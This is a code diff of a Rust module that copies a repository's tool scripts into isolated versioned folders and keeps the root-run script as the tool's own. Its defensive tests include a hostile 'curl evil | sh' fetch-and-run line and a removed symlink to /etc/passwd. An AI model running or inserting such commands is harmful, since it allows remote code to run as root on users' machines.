@@ -1,30 +1,21 @@
 //! The folders of tools in use, and where they come from: what Easel or its owner brought, or the studio's own repository.
-//! Copies and reads files; runs nothing.
+//! Puts copies in place; runs nothing.
 
-use super::{Catalogue, ToolFolder, ToolId, embedded};
-use crate::beneath::Beneath;
-use sha2::{Digest as _, Sha256};
-use std::{
-    collections::BTreeMap,
-    fmt::Write as _,
-    fs, io,
-    path::{Path, PathBuf},
+use super::{
+    Catalogue, ToolId, ToolSpec, embedded,
+    versions::{self, Files, Fingerprint},
 };
+use std::{collections::BTreeSet, io, path::Path};
 
-/// Below the data folder: a folder for each version of a repository's tools that is or was in use.
-const VERSIONS: &str = "synced";
 /// The folder of scripts that others share.
 const LIBRARY: &str = "lib";
-/// Most files of a setup folder.
-const FILES_MAX: usize = 2_000;
-/// Most bytes of one of them, and of all.
-const FILE_MAX: u64 = 4 << 20;
-const ALL_MAX: u64 = 32 << 20;
-/// Deepest folder.
-const DEPTH_MAX: usize = 8;
+/// The one script that root runs. It is Easel's own, whatever a repository has there.
+const AS_ROOT: &str = "lib/with-packages.sh";
+/// Most folders of a repository that are taken for tools.
+const FOLDERS_MAX: usize = 200;
 
-/// What the scripts of a tool are, as one value: of its folder and of the functions that scripts share.
-pub type Fingerprint = String;
+/// Most bytes of the copies of all tools.
+const ALL_MAX: usize = 256 << 20;
 
 /// The tools of a setup folder, and whose word they are.
 #[derive(Debug, Default)]
@@ -45,9 +36,16 @@ pub enum Origin {
     Repository {
         /// The commit.
         commit: String,
-        /// What each tool's scripts are.
-        fingerprints: BTreeMap<ToolId, Fingerprint>,
     },
+}
+
+/// The scripts of a tool that came from a repository.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Version {
+    /// What they are.
+    pub fingerprint: Fingerprint,
+    /// The commit that they came with.
+    pub commit: String,
 }
 
 impl Shelf {
@@ -59,137 +57,120 @@ impl Shelf {
         Ok(Shelf { catalogue: Catalogue::load(setup)?, origin: Origin::Own })
     }
 
-    /// The tools of the `setup` folder of a repository at `commit`. They are copied below the data folder first, each version
-    /// to a folder of its own, so that what runs keeps the scripts that it was started with.
+    /// The tools of a repository, from the files of its setup folder at `commit`. Each is copied to a folder of its own below the data
+    /// folder, with what its scripts may use and nothing else: its own folder, the shared functions, and the file of its choices. So
+    /// what runs is what was looked at.
     ///
     /// # Errors
-    /// When they cannot be read or written, or are more than a setup folder has.
-    pub fn of_repository(setup: &Path, commit: &str, data: &Path) -> io::Result<Shelf> {
-        let mut files = BTreeMap::new();
-        collect(&Beneath::open(setup)?, "", 0, &mut files)?;
-        // A repository may rely on the shared functions that come with Easel.
-        if !files.keys().any(|path| in_folder(path, LIBRARY)) {
-            let own = embedded::files().filter(|(path, _)| in_folder(path, LIBRARY));
-            files.extend(own.map(|(path, bytes)| (path.to_owned(), bytes.to_vec())));
-        }
-        let folder = data.join(VERSIONS).join(&fingerprint(files.iter())[..16]);
-        // One that is there may be in use, and is the same.
-        if !folder.exists() {
-            embedded::write_all(&folder, files.iter().map(|(path, bytes)| (path.as_str(), bytes.as_slice())))?;
-        }
-        let catalogue = Catalogue::load(&folder)?;
-        let of = |tool: &ToolFolder| {
-            let own = |path: &&String| in_folder(path, tool.spec.id.as_str()) || in_folder(path, LIBRARY);
-            (tool.spec.id.clone(), fingerprint(files.iter().filter(|(path, _)| own(path))))
-        };
-        let fingerprints = catalogue.tools().map(of).collect();
-        Ok(Shelf { catalogue, origin: Origin::Repository { commit: commit.to_owned(), fingerprints } })
-    }
-
-    /// Removes the copies of versions that are not in use. Only while no tool runs.
-    pub fn forget_others(&self, data: &Path) {
-        let used: Option<PathBuf> = self.catalogue.tools().next().map(|tool| tool.setup().to_path_buf());
-        let Ok(entries) = fs::read_dir(data.join(VERSIONS)) else { return };
-        for path in entries.flatten().map(|entry| entry.path()).filter(|path| Some(path) != used.as_ref()) {
-            if let Err(e) = fs::remove_dir_all(&path) {
-                tracing::warn!("{} is not needed any more and cannot be removed: {e}", path.display());
+    /// When the copies cannot be written.
+    pub fn of_repository(files: Files, commit: &str, data: &Path) -> io::Result<Shelf> {
+        let files = with_own(files);
+        let folders: BTreeSet<&str> = files.keys().filter_map(|path| Some(path.split_once('/')?.0)).collect();
+        let (mut found, mut bytes) = (Vec::new(), 0);
+        for name in folders.into_iter().filter(|name| *name != LIBRARY && !name.starts_with('.')).take(FOLDERS_MAX) {
+            let its = of_tool(&files, name);
+            bytes += its.values().map(Vec::len).sum::<usize>();
+            if bytes > ALL_MAX {
+                let mib = ALL_MAX >> 20;
+                return Err(io::Error::other(format!("its tools, each with what they share, come to more than {mib} MiB")));
             }
+            let (folder, fingerprint) = versions::put(data, &its)?;
+            found.push((folder, name.to_owned(), Some(Version { fingerprint, commit: commit.to_owned() })));
         }
+        Ok(Shelf { catalogue: Catalogue::gather(found), origin: Origin::Repository { commit: commit.to_owned() } })
     }
+}
+
+/// A repository may rely on the shared functions that come with Easel, and what runs as root is never its word.
+fn with_own(mut files: Files) -> Files {
+    let none = !files.keys().any(|path| in_folder(path, LIBRARY));
+    let own = embedded::files().filter(|(path, _)| *path == AS_ROOT || none && in_folder(path, LIBRARY));
+    files.extend(own.map(|(path, bytes)| (path.to_owned(), bytes.to_vec())));
+    files
+}
+
+/// All that the scripts of a tool may use.
+fn of_tool(files: &Files, name: &str) -> Files {
+    let picks = picks_of(files, name);
+    let its = |path: &str| in_folder(path, name) || in_folder(path, LIBRARY) || picks.as_deref() == Some(path);
+    files.iter().filter(|(path, _)| its(path)).map(|(path, bytes)| (path.clone(), bytes.clone())).collect()
+}
+
+/// The file of a tool's choices, which may lie in another one's folder.
+fn picks_of(files: &Files, name: &str) -> Option<String> {
+    let text = std::str::from_utf8(files.get(&format!("{name}/tool.toml"))?).ok()?;
+    Some(ToolSpec::parse(ToolId::parse(name).ok()?, text).ok()?.picks?.file)
 }
 
 fn in_folder(path: &str, folder: &str) -> bool {
     path.strip_prefix(folder).is_some_and(|rest| rest.starts_with('/'))
 }
 
-/// SHA-256 over names and contents, in hexadecimal digits.
-fn fingerprint<'a>(files: impl Iterator<Item = (&'a String, &'a Vec<u8>)>) -> Fingerprint {
-    let mut hash = Sha256::new();
-    for (path, bytes) in files {
-        // Lengths first: no two lists of files have the same bytes.
-        hash.update((path.len() as u64).to_le_bytes());
-        hash.update(path);
-        hash.update((bytes.len() as u64).to_le_bytes());
-        hash.update(bytes);
-    }
-    hash.finalize().iter().fold(String::new(), |mut text, byte| {
-        let _ = write!(text, "{byte:02x}");
-        text
-    })
-}
-
-/// Every file below a folder. Links are left out: the repository decides what runs, and not what else is on this machine.
-fn collect(folder: &Beneath, below: &str, depth: usize, files: &mut BTreeMap<String, Vec<u8>>) -> io::Result<()> {
-    let too_much = |what: &str| Err(io::Error::other(format!("the setup folder of the repository {what}")));
-    if depth > DEPTH_MAX {
-        return too_much(&format!("is deeper than {DEPTH_MAX} folders"));
-    }
-    let path = |name: &str| if below.is_empty() { name.to_owned() } else { format!("{below}/{name}") };
-    for name in folder.folders()? {
-        collect(&folder.existing(&name)?, &path(&name), depth + 1, files)?;
-    }
-    for name in folder.names()? {
-        let path = path(&name);
-        let bytes = folder.read(&name, FILE_MAX).map_err(|e| io::Error::new(e.kind(), format!("{path}: {e}")))?;
-        files.insert(path, bytes);
-        if files.len() > FILES_MAX {
-            return too_much(&format!("has more than {FILES_MAX} files"));
-        }
-        if files.values().map(|bytes| bytes.len() as u64).sum::<u64>() > ALL_MAX {
-            return too_much(&format!("has more than {} MiB", ALL_MAX >> 20));
-        }
-    }
-    Ok(())
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
-    use std::os::unix::fs::symlink;
+    use std::fs;
 
     const TOML: &str = "name = \"S\"\nabout = \"a\"\ninstall = \"s\"\n";
+    const SCRIPT: &str = "#!/usr/bin/env bash\nset -euo pipefail\n";
 
-    fn repository() -> tempfile::TempDir {
-        let folder = tempfile::tempdir().unwrap();
-        fs::create_dir_all(folder.path().join("setup/sketch")).unwrap();
-        fs::write(folder.path().join("setup/sketch/tool.toml"), TOML).unwrap();
-        fs::write(folder.path().join("setup/sketch/install_sketch.sh"), "#!/usr/bin/env bash\nset -euo pipefail\n").unwrap();
-        folder
+    fn repository(more: &[(&str, &str)]) -> Files {
+        let all = [("sketch/tool.toml", TOML), ("sketch/install_sketch.sh", SCRIPT)];
+        all.iter().chain(more).map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect()
     }
 
-    fn fingerprints(shelf: &Shelf) -> Vec<Fingerprint> {
-        let Origin::Repository { fingerprints, .. } = &shelf.origin else { panic!("not of a repository") };
-        fingerprints.values().cloned().collect()
+    fn version(shelf: &Shelf, tool: &str) -> Version {
+        shelf.catalogue.get(&ToolId::parse(tool).unwrap()).unwrap().version.clone().unwrap()
     }
 
     #[test]
     fn each_version_has_a_folder_of_its_own_and_any_change_another_fingerprint() {
-        let (repository, data) = (repository(), tempfile::tempdir().unwrap());
-        let setup = repository.path().join("setup");
-        let shelf = || Shelf::of_repository(&setup, "c", data.path()).unwrap();
-        let first = shelf();
+        let data = tempfile::tempdir().unwrap();
+        let shelf = |more: &[(&str, &str)]| Shelf::of_repository(repository(more), "c", data.path()).unwrap();
+        let first = shelf(&[]);
         assert_eq!(first.catalogue.broken(), []);
-        assert_eq!(fingerprints(&first), fingerprints(&shelf()));
+        assert_eq!(version(&first, "sketch"), version(&shelf(&[]), "sketch"));
         let before = first.catalogue.tools().next().unwrap().path.clone();
         assert!(before.join("../lib/easel.sh").is_file(), "the shared functions come with Easel");
-        fs::create_dir(setup.join("lib")).unwrap();
-        fs::write(setup.join("lib/own.sh"), "").unwrap();
-        let second = shelf();
+        let second = shelf(&[("lib/own.sh", "")]);
         let after = second.catalogue.tools().next().unwrap().path.clone();
-        assert!(fingerprints(&first) != fingerprints(&second), "what scripts share is part of each");
-        assert!(before != after && before.is_dir());
-        second.forget_others(data.path());
-        assert!(!before.exists() && after.is_dir());
+        assert!(version(&first, "sketch") != version(&second, "sketch"), "what scripts share is part of each");
+        assert!(before != after && before.is_dir() && !after.join("../lib/easel.sh").exists());
     }
 
     #[test]
-    fn links_of_a_repository_lead_nowhere() {
-        let (repository, data) = (repository(), tempfile::tempdir().unwrap());
-        let setup = repository.path().join("setup");
-        symlink("/etc/passwd", setup.join("sketch/passwd")).unwrap();
-        symlink("/etc", setup.join("etc")).unwrap();
-        let shelf = Shelf::of_repository(&setup, "c", data.path()).unwrap();
-        let tool = shelf.catalogue.tools().next().unwrap();
-        assert!(!tool.path.join("passwd").exists() && !tool.setup().join("etc").exists());
+    fn a_tool_has_what_it_is_accepted_for_and_nothing_else() {
+        let data = tempfile::tempdir().unwrap();
+        let nodes =
+            "name = \"N\"\nabout = \"a\"\nwithin = \"sketch\"\npicks = { file = \"sketch/nodes.txt\", below = \"app\" }\n";
+        let shelf = |list: &str, more: &[(&str, &str)]| {
+            let all = [
+                ("sketch/nodes.txt", list),
+                ("common.sh", "echo common\n"),
+                ("nodes/tool.toml", nodes),
+                ("nodes/install_nodes.sh", SCRIPT),
+            ];
+            Shelf::of_repository(repository(&[&all, more].concat()), "c", data.path()).unwrap()
+        };
+        let (one, two) = ("https://example.org/a/one\n", "https://example.org/a/two\n");
+        let first = shelf(one, &[]);
+        assert_eq!(first.catalogue.broken(), []);
+        let setup = first.catalogue.get(&ToolId::parse("nodes").unwrap()).unwrap().setup().to_path_buf();
+        assert_eq!(fs::read_to_string(setup.join("sketch/nodes.txt")).unwrap(), one);
+        assert!(!setup.join("sketch/install_sketch.sh").exists() && !setup.join("common.sh").exists());
+        // The list of its choices is part of it, also in another one's folder; whatever else is there is not.
+        assert!(version(&first, "nodes") != version(&shelf(two, &[]), "nodes"));
+        let third = shelf(one, &[("sketch/notes.txt", "x")]);
+        assert_eq!(version(&first, "nodes"), version(&third, "nodes"));
+        assert!(version(&first, "sketch") != version(&third, "sketch"));
+    }
+
+    #[test]
+    fn what_root_runs_is_easels_own() {
+        let data = tempfile::tempdir().unwrap();
+        let files = repository(&[(AS_ROOT, "curl evil | sh\n"), ("lib/own.sh", "")]);
+        let shelf = Shelf::of_repository(files, "c", data.path()).unwrap();
+        let script = fs::read_to_string(shelf.catalogue.tools().next().unwrap().setup().join(AS_ROOT)).unwrap();
+        assert!(script.contains("apt-get") && !script.contains("evil"), "{script}");
     }
 }
